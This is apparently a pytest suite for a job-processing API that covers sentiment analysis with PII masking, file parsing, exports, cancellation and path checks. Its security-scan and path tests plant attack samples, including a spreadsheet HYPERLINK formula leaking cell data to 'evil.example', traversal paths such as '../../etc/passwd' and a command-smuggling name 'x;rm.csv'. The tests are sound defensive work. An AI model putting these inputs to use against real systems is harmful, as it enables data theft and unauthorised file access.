"""Seed 002's four job types over HTTP, on SQLite and PostgreSQL, with a real worker: a
sentiment batch whose identifiers never leave the job, a CSV upload with malformed lines,
quoted newlines and a Windows-1252 line parsed and analysed into a dataset, JSON Lines,
Parquet and XLSX files parsed too, a parse cancelled between chunks, exports in three formats
compared with the dataset, exports that expire and go with their pruned job, a security scan
of planted secrets, PII and a formula, and paths that try to leave the data roots."""

from __future__ import annotations

import contextlib
import io
import json
import os
import time
import uuid
from collections.abc import AsyncIterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest
import xlsxwriter
from conftest import ApiHarness, api_harness, eventually, running_worker
from python_calamine import CalamineWorkbook

from conveyor.packs.workbench import EXPORT_TTL, DatasetNotFound, export, open_dataset

JUST = timedelta(seconds=1)

PII_TEXTS = [
    "I love this product! Email me at jane.doe@example.com",
    "Terrible quality. My SSN is 123-45-6789 and my card 4111 1111 1111 1111 was charged twice.",
    "Average experience, nothing special. Call (415) 555-0132.",
    "Dr. Alice Walker was wonderful, DOB 04/12/1980, MRN 00482913.",
]
IDENTIFIERS = ["jane.doe@example.com", "123-45-6789", "4111 1111 1111 1111", "(415) 555-0132", "Alice Walker",
               "04/12/1980", "00482913"]  # fmt: skip

# Lines: 1 header; 2; 3-4 (a quoted newline); 5 malformed; 6 Windows-1252; 7 blank; 8 malformed; 9.
CSV = (
    b"id,date,review,rating\n"
    b"1,2024-01-05,The food was great and the staff were lovely,5\n"
    b'2,2024-02-10,"Terrible service,\nwe waited an hour",1\n'
    b"3,2024-02-11,too,many,fields,here\n"
    b"4,2024-03-01,Caf\xe9 cr\xe8me was okay I guess,3\n"
    b"\n"
    b"5,2024-03-02\n"
    b"6,2024-04-20,Absolutely wonderful experience would come back,5\n"
)


@pytest.fixture
async def extra_root(tmp_path: Path) -> Path:
    root = tmp_path / "shared-files"
    root.mkdir()
    return root


@pytest.fixture
async def api(database_url: str, extra_root: Path) -> AsyncIterator[ApiHarness]:
    async with api_harness(database_url, data_roots=str(extra_root)) as h:
        h.admin = await h.key("admin", org="org-a")  # type: ignore[attr-defined]
        yield h


USER = ApiHarness.jwt(sub="alice", org="org-a")
OTHER = ApiHarness.jwt(sub="mallory", org="org-b")


async def create(api: ApiHarness, kind: str, data: dict[str, Any], headers: dict[str, str] = USER) -> str:
    response = await api.client.post("/api/v1/jobs", json={"type": kind, "data": data}, headers=headers)
    assert response.status_code == 201, response.text
    return str(response.json()["data"]["jobId"])


async def finished(api: ApiHarness, job_id: str, headers: dict[str, str] = USER) -> dict[str, Any]:
    response = await api.client.post(f"/api/v1/jobs/{job_id}/wait", json={"timeout": 60000}, headers=headers)
    assert response.status_code == 200, response.text
    got = await api.client.get(f"/api/v1/jobs/{job_id}", headers=headers)
    return dict(got.json()["data"])


async def run(api: ApiHarness, kind: str, data: dict[str, Any], headers: dict[str, str] = USER) -> dict[str, Any]:
    job_id = await create(api, kind, data, headers)
    async with running_worker(api.conveyor):
        return await finished(api, job_id, headers)


async def upload(api: ApiHarness, content: bytes, name: str, headers: dict[str, str] = USER) -> str:
    response = await api.client.post("/api/v1/files", files={"file": (name, content, "text/csv")}, headers=headers)
    assert response.status_code == 201, response.text
    return str(response.json()["data"]["filePath"])


def data_dir(api: ApiHarness) -> Path:
    return Path(api.conveyor.settings.data_dir)


# --- sentiment ---------------------------------------------------------------------------------


async def test_sentiment_batch_masks_identifiers_everywhere_it_reports(api: ApiHarness) -> None:
    job = await run(api, "sentiment_analysis_batch", {"texts": PII_TEXTS, "includeKeywords": True})
    assert job["status"] == "completed", job
    result = job["result"]
    assert result["totalProcessed"] == 4
    labels = [r["sentiment"] for r in result["results"]]
    assert labels[0] == "positive" and labels[1] == "negative"
    for item in result["results"]:
        assert -1 <= item["score"] <= 1 and 0 <= item["confidence"] <= 1
        assert isinstance(item["keywords"], list)
    assert result["results"][1]["piiTypes"] == ["CREDIT_CARD", "SSN"]
    assert "[EMAIL]" in result["results"][0]["text"] and "[NAME]" in result["results"][3]["text"]
    summary = result["summary"]
    assert summary["successful"] == 4 and summary["failed"] == 0
    assert sum(summary["distribution"].values()) == 4
    assert job["processingStats"]["processedItems"] == 4

    logs = await api.client.get(f"/api/v1/jobs/{job['id']}/logs", headers=USER)
    everything = json.dumps(job) + logs.text
    for identifier in IDENTIFIERS:
        assert identifier not in everything


async def test_a_text_without_words_is_counted_failed_not_fatal(api: ApiHarness) -> None:
    job = await run(api, "sentiment_analysis_batch", {"texts": ["Great!", "   ", "Awful."]})
    assert job["status"] == "completed"
    assert job["result"]["summary"]["successful"] == 2 and job["result"]["summary"]["failed"] == 1
    assert job["itemErrors"] == [{"item": 1, "message": "the text has no words to analyse", "code": "EMPTY_TEXT"}]


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"texts": []}, "texts"),
        ({"texts": ["ok"] * 10_001}, "texts"),
        ({"texts": [""]}, "texts.0"),
        ({"texts": ["x" * 10_001]}, "texts.0"),
        ({"texts": ["ok"], "language": "fr"}, "language"),
        ({"texts": ["ok"], "enablePIIMasking": "maybe"}, "enablePIIMasking"),
    ],
)
async def test_sentiment_input_is_checked_naming_the_field(api: ApiHarness, data: dict[str, Any], field: str) -> None:
    response = await api.client.post(
        "/api/v1/jobs", json={"type": "sentiment_analysis_batch", "data": data}, headers=USER
    )
    assert response.status_code == 400, response.text
    details = response.json()["details"]
    assert details["code"] == "INVALID_JOB_DATA"
    assert field in [e["field"] for e in details["errors"]]


# --- files, datasets, exports ---------------------------------------------------------------------


async def test_csv_is_parsed_with_malformed_lines_reported_and_analysed(api: ApiHarness) -> None:
    path = await upload(api, CSV, "reviews.csv")
    assert path.startswith("uploads/") and path.endswith("/reviews.csv")
    dataset_id = str(uuid.uuid4())

    parsed = await run(api, "file_processing", {"filePath": path, "datasetId": dataset_id, "chunkSize": 65536})
    assert parsed["status"] == "completed", parsed
    assert parsed["result"]["rows"] == 4 and parsed["result"]["malformedRows"] == 2
    errors = {(e["item"], e["code"]) for e in parsed["itemErrors"]}
    assert errors == {(5, "MALFORMED_ROW"), (8, "MALFORMED_ROW"), (6, "RECODED_LINE")}
    messages = {e["item"]: e["message"] for e in parsed["itemErrors"]}
    assert messages[5] == "expected 4 fields, found 6" and messages[8] == "expected 4 fields, found 2"
    assert messages[6] == "not UTF-8: read as Windows-1252"
    assert [c["name"] for c in parsed["result"]["columns"]] == ["id", "date", "review", "rating"]

    dataset = open_dataset(data_dir(api), dataset_id, "org-a")
    frame = dataset.scan().collect()
    assert frame["id"].to_list() == [1, 2, 4, 6]
    assert frame["review"][1] == "Terrible service,\nwe waited an hour"
    assert frame["review"][2] == "Café crème was okay I guess"
    assert frame.schema["date"] == pl.Date and frame.schema["rating"] == pl.Int64

    analysed = await run(
        api, "file_processing", {"filePath": path, "datasetId": dataset_id, "processingType": "analyze"}
    )
    assert analysed["status"] == "completed", analysed
    result = analysed["result"]
    assert result["textColumn"] == "review"
    assert result["sentimentDistribution"]["positive"] >= 2 and result["sentimentDistribution"]["negative"] >= 1
    stats = {s["name"]: s for s in result["statistics"]}
    assert stats["rating"]["min"] == 1 and stats["rating"]["max"] == 5 and stats["rating"]["nulls"] == 0
    assert stats["rating"]["mean"] == pytest.approx(3.5)
    assert stats["id"]["distinct"] == 4


async def analysed_dataset(api: ApiHarness) -> str:
    path = await upload(api, CSV, "reviews.csv")
    dataset_id = str(uuid.uuid4())
    job = await run(api, "file_processing", {"filePath": path, "datasetId": dataset_id, "processingType": "analyze"})
    assert job["status"] == "completed", job
    return dataset_id


async def download(api: ApiHarness, job_id: str, headers: dict[str, str] = USER) -> bytes:
    response = await api.client.get(f"/api/v1/jobs/{job_id}/download", headers=headers)
    assert response.status_code == 200, response.text
    return response.content


async def test_exports_round_trip_in_all_three_formats(api: ApiHarness) -> None:
    dataset_id = await analysed_dataset(api)
    expected = open_dataset(data_dir(api), dataset_id, "org-a").scan().collect()
    as_text = expected.with_columns(pl.col("date").cast(pl.String))

    csv_job = await run(api, "data_export", {"datasetId": dataset_id, "format": "csv"})
    assert csv_job["result"]["records"] == 4
    got = pl.read_csv(io.BytesIO(await download(api, csv_job["id"])), try_parse_dates=True)
    assert got.to_dicts() == expected.to_dicts()

    csv_job = await run(api, "data_export", {"datasetId": dataset_id, "format": "csv", "includeMetadata": True})
    content = (await download(api, csv_job["id"])).decode()
    comments = [line for line in content.splitlines() if line.startswith("# ")]
    assert f'# datasetId: "{dataset_id}"' in comments
    got = pl.read_csv(io.StringIO(content), comment_prefix="# ", try_parse_dates=True)
    assert got.to_dicts() == expected.to_dicts()

    json_job = await run(api, "data_export", {"datasetId": dataset_id, "format": "json", "includeMetadata": True})
    body = json.loads(await download(api, json_job["id"]))
    assert body["records"] == as_text.to_dicts()
    assert body["metadata"]["datasetId"] == dataset_id and json_job["result"]["metadata"]["records"] == 4

    xlsx_job = await run(api, "data_export", {"datasetId": dataset_id, "format": "xlsx", "includeMetadata": True})
    book = CalamineWorkbook.from_filelike(io.BytesIO(await download(api, xlsx_job["id"])))
    assert book.sheet_names == ["data", "metadata"]
    meta = dict(book.get_sheet_by_name("metadata").to_python())
    assert json.loads(meta["datasetId"]) == dataset_id
    rows = book.get_sheet_by_index(0).to_python()
    assert rows[0] == expected.columns
    # a workbook keeps numbers as floats and an empty cell as ""; dates go as ISO text
    cells = [["" if v is None else float(v) if isinstance(v, int | float) else v for v in row.values()]
             for row in as_text.to_dicts()]  # fmt: skip
    assert rows[1:] == cells


async def test_export_filters_by_sentiment_date_and_limit(api: ApiHarness) -> None:
    dataset_id = await analysed_dataset(api)
    expected = open_dataset(data_dir(api), dataset_id, "org-a").scan().collect()
    positives = expected.filter(pl.col("sentiment") == "positive")["id"].to_list()
    job = await run(api, "data_export", {"datasetId": dataset_id, "format": "json",
                                         "filters": {"sentiment": "positive"}})  # fmt: skip
    assert [r["id"] for r in json.loads(await download(api, job["id"]))["records"]] == positives

    data = {
        "datasetId": dataset_id,
        "format": "json",
        "filters": {"dateRange": {"start": "2024-02-01T00:00:00Z", "end": "2024-03-31T00:00:00Z"}, "limit": 1},
    }
    job = await run(api, "data_export", data)
    assert [r["id"] for r in json.loads(await download(api, job["id"]))["records"]] == [2]


async def test_json_lines_parquet_and_xlsx_files_are_parsed_into_datasets(api: ApiHarness) -> None:
    expected = pl.DataFrame(
        {
            "id": [1, 2, 3],
            "date": [date(2024, 1, 5), date(2024, 2, 10), date(2024, 3, 1)],
            "review": ["Great food", "Terrible service,\nwe waited", "Caf\u00e9 cr\u00e8me, fine"],
            "rating": [4.5, 1.0, 3.0],
        }
    )
    parquet = io.BytesIO()
    expected.write_parquet(parquet)
    workbook = io.BytesIO()
    with xlsxwriter.Workbook(workbook, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, expected.columns)
        day = book.add_format({"num_format": "yyyy-mm-dd"})
        for n, (row_id, when, review, rating) in enumerate(expected.iter_rows(), start=1):
            sheet.write_number(n, 0, row_id)
            sheet.write_datetime(n, 1, datetime(when.year, when.month, when.day), day)  # noqa: DTZ001 - a cell has no zone
            sheet.write_string(n, 2, review)
            sheet.write_number(n, 3, rating)
    # JSON has no dates (they stay text); line 3 is not JSON, line 5 not an object, line 6 blank
    records = [json.dumps(r | {"date": r["date"].isoformat()}) for r in expected.to_dicts()]
    lines = [records[0], records[1], "{not json", records[2], "[1, 2]", "", ""]

    cases = {
        "reviews.parquet": (parquet.getvalue(), "parquet", expected, set()),
        "reviews.xlsx": (workbook.getvalue(), "xlsx", expected, set()),
        "reviews.jsonl": (
            "\n".join(lines).encode(),
            "jsonl",
            expected.with_columns(pl.col("date").cast(pl.String)),
            {(3, "MALFORMED_ROW"), (5, "MALFORMED_ROW")},
        ),
    }
    for name, (content, file_format, want, errors) in cases.items():
        dataset_id = str(uuid.uuid4())
        data = {"filePath": await upload(api, content, name), "datasetId": dataset_id}
        job = await run(api, "file_processing", data)
        assert job["status"] == "completed", (name, job)
        assert job["result"]["format"] == file_format and job["result"]["rows"] == 3, name
        assert {(e["item"], e["code"]) for e in job.get("itemErrors", [])} == errors, name
        got = open_dataset(data_dir(api), dataset_id, "org-a").scan().collect()
        assert got.to_dicts() == want.to_dicts(), name
        assert got.schema == want.schema, name


async def test_cancelling_a_running_parse_stops_it_between_chunks_and_keeps_no_dataset(api: ApiHarness) -> None:
    rows = 200_000  # ~11 MB of reviews, 1,000 rows a chunk: sentiment on each takes seconds
    with (data_dir(api) / "many.csv").open("w", encoding="utf-8") as out:
        out.write("id,review\n")
        out.writelines(f"{n},The food was great and the staff were lovely {n}\n" for n in range(rows))
    dataset_id = str(uuid.uuid4())
    data = {"filePath": "many.csv", "datasetId": dataset_id, "processingType": "analyze", "chunkSize": 65536}
    job_id = await create(api, "file_processing", data)

    async def reading() -> dict[str, Any] | None:
        job = (await api.client.get(f"/api/v1/jobs/{job_id}", headers=USER)).json()["data"]
        read = job.get("processingStats", {}).get("processedItems", 0)
        return job if job["status"] == "running" and read > 0 else None

    async with running_worker(api.conveyor):
        started = await eventually(reading, timeout=60)
        response = await api.client.delete(f"/api/v1/jobs/{job_id}", headers=USER)
        assert response.status_code == 200, response.text
        job = await finished(api, job_id)
    assert job["status"] == "cancelled", job
    assert started["processingStats"]["totalItems"] == (data_dir(api) / "many.csv").stat().st_size
    assert job["processingStats"]["processedItems"] < job["processingStats"]["totalItems"], "it ran to the end"
    with pytest.raises(DatasetNotFound):
        open_dataset(data_dir(api), dataset_id, "org-a")
    datasets = data_dir(api) / "workbench" / "datasets"
    assert not datasets.exists() or list(datasets.iterdir()) == [], "the staging directory was left behind"


async def test_an_export_expires_after_the_seeds_ttl_and_goes_with_its_pruned_job(api: ApiHarness) -> None:
    dataset_id = await analysed_dataset(api)
    first = await run(api, "data_export", {"datasetId": dataset_id, "format": "csv"})
    second = await run(api, "data_export", {"datasetId": dataset_id, "format": "json"})
    completed = datetime.fromisoformat(first["completedAt"])
    expires = datetime.fromisoformat(first["result"]["expiresAt"])
    assert abs(expires - completed - EXPORT_TTL) < timedelta(minutes=1)
    assert await download(api, first["id"])

    assert export.sweep_expired(data_dir(api), now=time.time() + 3600) == 0, "an hour old: kept"
    assert await download(api, first["id"])
    assert export.sweep_expired(data_dir(api), now=time.time() + EXPORT_TTL.total_seconds() + 60) == 2
    response = await api.client.get(f"/api/v1/jobs/{first['id']}/download", headers=USER)
    assert response.status_code == 410 and response.json()["details"]["code"] == "EXPORT_EXPIRED"

    # retention: the completed job goes after its TTL (24 h by default), and the export with it
    third = await run(api, "data_export", {"datasetId": dataset_id, "format": "xlsx"})
    path = export.export_path(data_dir(api), third["id"], "xlsx")
    assert path.is_file()
    await api.conveyor.pruner.run_once(now=datetime.fromisoformat(third["completedAt"]) + EXPORT_TTL + JUST)
    assert not path.exists()
    response = await api.client.get(f"/api/v1/jobs/{third['id']}/download", headers=USER)
    assert response.status_code == 404
    assert second["status"] == "completed"


@pytest.mark.parametrize("hours", [72, 0])
async def test_an_export_is_kept_as_long_as_its_queue_keeps_completed_jobs(database_url: str, hours: int) -> None:
    """With completed jobs kept 72 hours (or for good: 0), an export expires then (or never), and
    the sweep that each export runs spares files younger than that."""

    def age(path: Path, hours_ago: float) -> None:
        then = time.time() - hours_ago * 3600
        os.utime(path, (then, then))

    async with api_harness(database_url, retention_completed_hours=hours) as h:
        dataset_id = await analysed_dataset(h)
        first = await run(h, "data_export", {"datasetId": dataset_id, "format": "csv"})
        path = export.export_path(data_dir(h), first["id"], "csv")
        if hours:
            expires = datetime.fromisoformat(first["result"]["expiresAt"])
            assert abs(expires - datetime.fromisoformat(first["completedAt"]) - timedelta(hours=hours)) < JUST * 60
        else:
            assert first["result"]["expiresAt"] is None
        age(path, 30)  # past seed 002's 24 hours, inside the queue's retention
        await run(h, "data_export", {"datasetId": dataset_id, "format": "json"})  # sweeps
        assert path.is_file() and await download(h, first["id"])
        age(path, 24 * 400)
        await run(h, "data_export", {"datasetId": dataset_id, "format": "json"})
        assert path.is_file() is (hours == 0)


async def test_another_organisation_can_neither_export_nor_download(api: ApiHarness) -> None:
    dataset_id = await analysed_dataset(api)
    theirs = await run(api, "data_export", {"datasetId": dataset_id, "format": "csv"}, headers=OTHER)
    assert theirs["status"] == "failed" and theirs["error"]["message"] == f"dataset {dataset_id} not found"
    mine = await run(api, "data_export", {"datasetId": dataset_id, "format": "csv"})
    response = await api.client.get(f"/api/v1/jobs/{mine['id']}/download", headers=OTHER)
    assert response.status_code == 404
    # nor overwrite it: their own file under the same datasetId is refused, without saying whose
    path = await upload(api, b"a,b\n1,2\n", "theirs.csv", headers=OTHER)
    theirs = await run(api, "file_processing", {"filePath": path, "datasetId": dataset_id}, headers=OTHER)
    assert (
        theirs["status"] == "failed"
        and theirs["error"]["message"] == f"datasetId {dataset_id} is in use; choose another"
    )
    assert open_dataset(data_dir(api), dataset_id, "org-a").scan().collect().height == 4


async def test_upload_over_the_limit_is_refused(database_url: str) -> None:
    async with api_harness(database_url, max_upload_bytes=2048) as h:
        response = await h.client.post("/api/v1/files", files={"file": ("big.csv", b"x" * 5000)}, headers=USER)
        assert response.status_code == 413
        assert response.json()["details"]["code"] == "INVALID_UPLOAD"
        assert list((Path(h.conveyor.settings.data_dir) / "uploads").iterdir()) == []


# --- security scan ---------------------------------------------------------------------------------------

AWS_KEY = "AKIA" + "Z7Q2X4M9W3K8P5N6"
SCANNED = (
    "name,email,note\n"
    "Ann,ann.lee@example.com,paid with 4111111111111111\n"
    f"Bob,bob@example.org,aws_access_key_id={AWS_KEY}\n"
    'Eve,eve@example.net,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n'
)


async def test_full_scan_reports_secrets_pii_and_formulas_with_framework_verdicts(api: ApiHarness) -> None:
    path = await upload(api, SCANNED.encode(), "customers.csv")
    data = {"filePath": path, "datasetId": str(uuid.uuid4()), "complianceFramework": ["PCI-DSS", "HIPAA", "SOC 2"]}
    job = await run(api, "security_scan", data)
    assert job["status"] == "completed", job
    result = job["result"]
    rules = {(f["rule"], f.get("line")) for f in result["findings"]}
    assert ("pii.credit_card", 2) in rules and ("pii.email", 3) in rules
    assert ("secret.aws_access_key", 3) in rules
    assert ("danger.spreadsheet_formula", 4) in rules
    card = next(f for f in result["findings"] if f["rule"] == "pii.credit_card")
    assert card["column"] == 35 and "[CREDIT_CARD]" in card["excerpt"] and "PCI-DSS" in card["frameworks"]
    assert set(result["frameworks"]) == {"PCI-DSS", "HIPAA", "SOC 2"}
    assert all(v["verdict"] == "fail" for v in result["frameworks"].values())
    assert "4111111111111111" not in json.dumps(job) and AWS_KEY not in json.dumps(job)


async def test_quick_scan_of_a_clean_file_passes(api: ApiHarness) -> None:
    path = await upload(api, b"id,amount\n1,20.5\n2,13\n", "clean.csv")
    job = await run(api, "security_scan", {"filePath": path, "datasetId": str(uuid.uuid4()), "scanType": "quick"})
    assert job["result"]["findings"] == []
    assert {v["verdict"] for v in job["result"]["frameworks"].values()} == {"pass"}


async def test_an_executable_named_csv_is_flagged(api: ApiHarness) -> None:
    path = await upload(api, b"MZ\x90\x00" + b"\x00" * 200, "report.csv")
    job = await run(api, "security_scan", {"filePath": path, "datasetId": str(uuid.uuid4())})
    rules = {f["rule"] for f in job["result"]["findings"]}
    assert {"filetype.executable", "filetype.extension_mismatch"} <= rules


# --- paths -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["../../etc/passwd", "uploads/../../x.csv", "/etc/passwd", "a b.csv", "x;rm.csv"])
async def test_paths_that_break_seed_002s_pattern_are_refused_at_creation(api: ApiHarness, path: str) -> None:
    response = await api.client.post(
        "/api/v1/jobs",
        json={"type": "file_processing", "data": {"filePath": path, "datasetId": str(uuid.uuid4())}},
        headers=USER,
    )
    if path == "/etc/passwd":  # the pattern allows it: refused where the job runs (below)
        assert response.status_code == 201
        return
    assert response.status_code == 400, response.text
    assert "filePath" in [e["field"] for e in response.json()["details"]["errors"]]


async def test_absolute_paths_outside_the_roots_and_symlink_escapes_fail_the_job(
    api: ApiHarness, tmp_path: Path, extra_root: Path
) -> None:
    outside = tmp_path / "secret.csv"
    outside.write_text("a,b\n1,2\n")
    with contextlib.suppress(FileExistsError):
        os.symlink(outside, data_dir(api) / "escape.csv")
    (extra_root / "ok.csv").write_text("a,b\n1,2\n")
    dataset = str(uuid.uuid4())
    cases = {
        str(outside): "outside the data roots",
        "escape.csv": "outside the data roots",
        "nothing.csv": "names no file",
    }
    for path, message in cases.items():
        job = await run(api, "file_processing", {"filePath": path, "datasetId": dataset})
        assert job["status"] == "failed" and message in job["error"]["message"], (path, job)
        assert job["attempts"] == 1  # a refused path is not retried
    job = await run(api, "file_processing", {"filePath": str(extra_root / "ok.csv"), "datasetId": dataset})
    assert job["status"] == "completed" and job["result"]["rows"] == 1
